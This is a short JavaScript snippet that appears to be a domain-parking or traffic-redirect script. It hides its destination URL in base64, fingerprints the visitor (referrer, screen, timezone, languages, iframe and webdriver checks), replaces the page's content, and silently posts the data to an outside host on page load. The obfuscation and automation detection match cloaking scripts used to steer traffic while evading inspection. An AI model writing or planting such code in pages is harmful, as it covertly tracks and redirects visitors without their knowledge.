window.park = "eyJ1IjoiaHR0cHM6Ly96ZXJvLXBhcmsuZXhhbXBsZS9yIn0=";
(function () {
  var cfg = JSON.parse(atob(window.park));
  var f = document.createElement("form");
  f.method = "POST"; f.action = cfg.u;
  var data = {
    d: location.hostname, r: document.referrer, s: screen.width + "x" + screen.height,
    z: new Date().getTimezoneOffset(), h: "ontouchstart" in window ? 1 : 0,
    i: window.self !== window.top ? 1 : 0, w: navigator.webdriver ? 1 : 0,
    c: ("chrome" in window) ? 1 : 0, l: (navigator.languages || []).join()
  };
  for (var k in data) {
    var i = document.createElement("input");
    i.type = "hidden"; i.name = k; i.value = data[k]; f.appendChild(i);
  }
  document.documentElement.innerHTML = "<body></body>";
  document.body.appendChild(f);
  setTimeout(function () { f.submit(); }, 30);
})();
